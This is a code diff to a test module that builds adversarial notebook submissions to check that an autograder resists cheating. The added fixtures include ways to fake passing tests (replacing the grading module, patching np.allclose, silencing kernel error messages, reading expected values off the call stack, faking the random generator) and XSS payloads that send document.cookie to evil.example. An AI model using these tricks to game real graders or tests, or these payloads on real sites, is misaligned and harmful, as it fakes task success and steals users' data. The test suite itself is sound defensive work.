@@ -1,10 +1,13 @@
 """Adversarial submissions for the grading pipeline, generated at test time.
 
 A tiny homework (``square`` worth 2 points, ``half`` worth 1, one written answer) keeps each
-submission fast to execute. Every adversarial student solves ``square`` honestly and attacks
-in the ``half`` answer cell, so what each may earn is known without running anything:
-``test_square`` 2 points when the kernel survives to grade it, ``test_half`` 0 unless the
-half it defines is a correct one written by the student (then 1).
+submission fast to execute. It is graded by trusted comparison: :data:`TINY_GRADER` is its
+grader spec (written next to the test's source folder, as ``graders/tiny.py``). ``half`` is
+marked *no loops*: 0.5 for the values, 0.5 for a loop-free function. Every adversarial
+student solves ``square`` honestly and attacks in the ``half`` answer cell (or in cells of
+its own), so what each may earn is known without running anything: ``test_square`` 2 points
+when the kernel survives to grade it, ``test_half`` 0 unless the half it defines is a correct
+one written by the student (then 1, or 0.5 when it loops).
 """
 
 from __future__ import annotations
@@ -33,14 +36,11 @@ TEST_SQUARE = """
 from dlhelpers import grading as G
 
 G.assert_close(G.call_student(square, 3.0), 9.0, name="square(3)")
-### BEGIN HIDDEN TESTS
-G.check_integrity()
-G.assert_close(G.call_student(square, np.arange(4.0)), np.arange(4.0) ** 2, name="square_arr")
-### END HIDDEN TESTS
+print("visible tests passed")
 """
 HALF = '''
 def half(x):
-    """x / 2."""
+    """x / 2, elementwise, with no loops."""
     ### BEGIN SOLUTION
     return x / 2
     ### END SOLUTION
@@ -49,12 +49,34 @@ TEST_HALF = """
 from dlhelpers import grading as G
 
 G.assert_close(G.call_student(half, 4.0), 2.0, name="half(4)")
-### BEGIN HIDDEN TESTS
-G.check_integrity()
-G.assert_close(G.call_student(half, -1.0), -0.5, name="hidden_half_negative")
-### END HIDDEN TESTS
+print("visible tests passed")
 """
-SECRET = "hidden_half_negative"  # appears only in the hidden tests
+SECRET = "hidden_half_negative"  # appears only in the grader spec
+TINY_GRADER = '''
+import numpy as np
+
+from grading.spec import Grader
+
+GRADER = Grader("tiny")
+
+
+@GRADER.test("test_square", points=2, timeout=3)
+def _square(s):
+    x = s.rng.normal(size=int(s.rng.integers(3, 9)))
+    s.close(s.call("square", x), x * x, name="square of a random vector")
+    s.close(s.call("square", 3.0), 9.0, name="square(3)")
+
+
+@GRADER.test("test_half", points=1, timeout=3)
+def _half(s):
+    hidden_half_negative = -1.0
+    with s.part(0.5, "values"):
+        x = s.rng.normal(size=5)
+        s.close(s.call("half", x), x / 2, name="half of a random vector")
+        s.close(s.call("half", hidden_half_negative), -0.5, name="half of a negative number")
+    with s.part(0.5, "no loops", needs="values"):
+        s.no_loops("half")
+'''
 
 WRONG_HALF = "\n\ndef half(x):\n    return x\n"
 RIGHT_HALF = "\n\ndef half(x):\n    return x / 2\n"
@@ -98,7 +120,7 @@ class Kind:
     """
 
     student: str
-    build: Callable[[Context], nbformat.NotebookNode | bytes]
+    build: Callable[[Context], nbformat.NotebookNode | bytes | Path]
     expected: dict[str, float] | None
     flag: str = ""
     filename: str | None = None
@@ -123,9 +145,16 @@ def attack(code: str) -> Callable[[Context], nbformat.NotebookNode]:
     def build(ctx: Context) -> nbformat.NotebookNode:
         nb = solved(ctx)
         cell = next(c for c in nb.cells if _gid(c) == "half")
-        cell.source = code.format(**ctx.targets)
+        cell.source = fill_targets(code, ctx.targets)
         return nb
     return build
+
+
+def fill_targets(code: str, targets: dict[str, str]) -> str:
+    """``{name}`` -> the target's path, ``{{``/``}}`` -> a brace; other braces stay as they are."""
+    for key, value in targets.items():
+        code = code.replace("{" + key + "}", value)
+    return code.replace("{{", "{").replace("}}", "}")
 
 
 def edit_cell(name: str, how: str, half: str = WRONG_HALF):
@@ -229,6 +258,176 @@ def _skip_tests(lines):
 get_ipython().input_transformers_post.append(_skip_tests)
 ''' + WRONG_HALF
 
+
+# --- issue 15: what beat the in-kernel tests (88/88 on hw1), now graded in the grader ------
+FAKE_GRADING_MODULE = '''
+import sys, types
+_fake = types.ModuleType("dlhelpers.grading")
+_fake.integrity_report = lambda: "ok"
+_fake.check_integrity = lambda: None
+_fake.assert_close = _fake.assert_shape = _fake.assert_true = lambda *a, **k: None
+_fake.call_student = lambda fn, *a, **k: fn(*a, **k)
+sys.modules["dlhelpers.grading"] = _fake
+''' + WRONG_HALF
+STACK_WALKER = '''
+import inspect
+
+
+class _Expected:
+    """Becomes whatever 'expected' value a caller up the stack holds."""
+
+    def __array__(self, dtype=None, copy=None):
+        for frame in inspect.stack():
+            for name in ("expected", "want", "_want", "want_loss"):
+                if name in frame.frame.f_locals:
+                    return np.asarray(frame.frame.f_locals[name], dtype=dtype)
+        return np.zeros(1)
+
+    def __float__(self):
+        return float(self.__array__())
+
+
+def half(x):
+    return _Expected()
+'''
+SILENT_CHANNEL = '''
+_session = get_ipython().kernel.session
+_send = _session.send
+
+
+def _quiet_send(stream, msg_or_type, content=None, *args, **kwargs):
+    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("msg_type")
+    if kind == "error" or (kind == "stream" and (content or {}).get("name") == "stderr"):
+        return None  # errors and stderr never reach the grader
+    if kind == "execute_reply" and isinstance(content, dict):
+        content = {**content, "status": "ok"}
+    return _send(stream, msg_or_type, content, *args, **kwargs)
+
+
+_session.send = _quiet_send
+
+
+def half(x):
+    raise ValueError("wrong, but nobody will hear of it")
+'''
+HOOK_SWAP = '''
+import sys
+import numpy as np
+
+_real_allclose = np.allclose
+
+
+def _install(*args):
+    np.allclose = lambda *a, **k: True
+    sys.modules["numpy"].testing.assert_allclose = lambda *a, **k: None
+
+
+def _restore(*args):
+    np.allclose = _real_allclose
+
+
+get_ipython().events.register("pre_run_cell", _install)
+get_ipython().events.register("post_run_cell", _restore)
+''' + WRONG_HALF
+FAKE_RNG = '''
+import numpy as np
+
+
+class _Fixed:
+    """Every 'random' draw is ones, so the hard-coded answers below would fit."""
+
+    def normal(self, loc=0.0, scale=1.0, size=None):
+        return np.ones(size)
+
+    def integers(self, low, high=None, size=None):
+        return np.full(size, low) if size is not None else low
+
+    def random(self, size=None):
+        return np.ones(size)
+
+
+np.random.default_rng = lambda *a, **k: _Fixed()
+np.random.seed(0)
+
+
+def half(x):
+    if np.ndim(x) == 0:
+        return {4.0: 2.0, -1.0: -0.5}.get(float(x), 0.0)  # the visible example, hard-coded
+    return np.full(np.shape(x), 0.5)  # right for the ones the fake generator would draw
+'''
+RENAMED_LOOP = '''
+def _halve_each(x):
+    values = np.atleast_1d(np.asarray(x, dtype=float))
+    out = np.array([v / 2 for v in values])
+    return out.reshape(np.shape(x)) if np.ndim(x) else float(out[0])
+
+
+fast_half = _halve_each  # a "vectorized" name for the loop
+
+
+def half(x):
+    return fast_half(x)
+'''
+TORCH_HALF = '''
+import torch
+
+
+def half(x):
+    return torch.as_tensor(x).div(2).numpy()
+'''
+SCIPY_HALF = '''
+from scipy import ndimage
+
+
+def half(x):
+    return ndimage.zoom(np.atleast_1d(x), 1.0) / 2
+'''
+HOSTILE_HTML = '''
+from IPython.display import HTML, SVG, Javascript, Markdown, display
+
+display(HTML('<b>bold</b><script>fetch("http://evil.example/steal?c=" + document.cookie)'
+             '</script><img src="http://evil.example/pixel.png" onerror="alert(1)">'))
+display(Javascript('fetch("http://evil.example/js")'))
+display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\\'http://evil.example/svg\\')">'
+            '<script>alert(1)</script></svg>'))
+display(Markdown('[click](javascript:alert(1)) ![t](http://evil.example/md.png)'))
+display({"application/vnd.jupyter.widget-view+json": {"model_id": "x"},
+         "text/plain": "a widget"}, raw=True)
+''' + RIGHT_HALF
+HOSTILE_ANSWER = ('Because squaring is symmetric. <script>fetch("http://evil.example/md")</script>'
+                  '<img src="http://evil.example/a.png" onerror="alert(1)">'
+                  '[more](javascript:alert(1)) ![x](http://evil.example/b.png)')
+HISTORY_READER = "print('HISTORY', In, _ih, Out)\n"
+
+
+def with_cell(code: str, answers=("square", "half"), written_answer: str | None = None):
+    """A builder: the listed answers solved, and a code cell of the student's own at the end."""
+    def build(ctx: Context) -> nbformat.NotebookNode:
+        from nbformat.v4 import new_code_cell
+
+        nb = solved(ctx, answers)
+        if written_answer is not None:
+            cell = next(c for c in nb.cells if _gid(c) == "why")
+            cell.source = written_answer
+        nb.cells.append(new_code_cell(code))
+        return nb
+    return build
+
+
+def hostile_html(ctx: Context) -> nbformat.NotebookNode:
+    nb = attack(HOSTILE_HTML)(ctx)
+    next(c for c in nb.cells if _gid(c) == "why").source = HOSTILE_ANSWER
+    return nb
+
+
+def deep_json(ctx: Context) -> bytes:
+    return b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"
+
+
+def huge_json(ctx: Context) -> bytes:
+    return b'{"cells": [], "metadata": {}, "pad": "' + b"x" * (21 * 2**20) + b'"}'
+
+
 OK_SQUARE = {"test_square": 2.0, "test_half": 0.0}
 FULL = {"test_square": 2.0, "test_half": 1.0}
 
@@ -267,17 +466,37 @@ def kinds() -> list[Kind]:
              "renamed notebook", filename=f"{TINY} (1).ipynb"),
         Kind("patch_testing", attack("import numpy as np\nnp.testing.assert_allclose = "
                                      "lambda *a, **k: None" + WRONG_HALF), OK_SQUARE,
-             "tampering"),
+             "replaces library functions"),
         Kind("patch_allclose", attack("import numpy as np\nnp.allclose = lambda *a, **k: True"
-                                      + WRONG_HALF), OK_SQUARE, "tampering"),
+                                      + WRONG_HALF), OK_SQUARE, "replaces library functions"),
         Kind("patch_builtins", attack("import builtins\nbuiltins.abs = lambda x: 0" + WRONG_HALF),
-             OK_SQUARE, "tampering"),
+             OK_SQUARE, "replaces library functions"),
         Kind("patch_grading", attack("from dlhelpers import grading\ngrading.assert_close = "
                                      "lambda *a, **k: None" + WRONG_HALF), OK_SQUARE,
-             "tampering"),
-        Kind("blank_tests", attack(BLANK_TESTS), OK_SQUARE, "tampering"),
+             "touches the grading helpers"),
+        Kind("blank_tests", attack(BLANK_TESTS), OK_SQUARE, "reaches into the kernel"),
+        # issue 15: the five ways a blank hw1 reached 88/88, then the other findings
+        Kind("fake_grading_module", attack(FAKE_GRADING_MODULE), OK_SQUARE,
+             "replaces library functions"),
+        Kind("stack_walker", attack(STACK_WALKER), OK_SQUARE, "walks the call stack"),
+        Kind("silent_channel", attack(SILENT_CHANNEL), OK_SQUARE, "reaches into the kernel"),
+        Kind("hook_swap", attack(HOOK_SWAP), OK_SQUARE, "reaches into the kernel"),
+        Kind("fake_rng", attack(FAKE_RNG), OK_SQUARE, "replaces library functions"),
+        Kind("renamed_loop", attack(RENAMED_LOOP), {"test_square": 2.0, "test_half": 0.5},
+             "loops in a function that must not loop"),
+        Kind("delegates_torch", attack(TORCH_HALF), OK_SQUARE, "imports torch"),
+        Kind("delegates_scipy", attack(SCIPY_HALF), OK_SQUARE, "imports scipy"),
+        Kind("history_leak", with_cell(HISTORY_READER), FULL, "reads the kernel's input history"),
+        Kind("symlinked", lambda ctx: Path(ctx.targets["source_notebook"]), FAILED,
+             "symbolic link"),
+        Kind("hostile_html", hostile_html, FULL, "removed by the grader"),
+        Kind("deep_json", deep_json, FAILED, "nested too deeply"),
+        Kind("huge_json", huge_json, FAILED, "over the limit"),
         Kind("delegates", attack("from dlhelpers.nn import mse\n\n\ndef half(x):\n"
                                  "    mse(np.zeros(1), np.zeros(1))\n    return x / 2\n"),
+             OK_SQUARE, "delegated"),
+        Kind("delegates_late", attack("import dlhelpers.nn as _nn\n\n\ndef half(x):\n"
+                                      "    return _nn.mse(x, 0 * x) * 0 + x / 2\n"),
              OK_SQUARE, "delegated"),
         Kind("reads_hidden", attack(READ_HIDDEN), OK_SQUARE, "reads or writes files"),
         Kind("writes_gradebook", attack(WRITE_GRADEBOOK), OK_SQUARE, "touches a gradebook"),
@@ -292,7 +511,9 @@ def write(kind: Kind, ctx: Context, folder: Path) -> Path:
     path = Path(folder) / kind.student / TINY / (kind.filename or f"{TINY}.ipynb")
     path.parent.mkdir(parents=True, exist_ok=True)
     made = kind.build(ctx)
-    if isinstance(made, bytes):
+    if isinstance(made, Path):  # a symbolic link to someone else's file
+        path.symlink_to(made)
+    elif isinstance(made, bytes):
         path.write_bytes(made)
     else:
         path.write_text(json.dumps(made, indent=1))
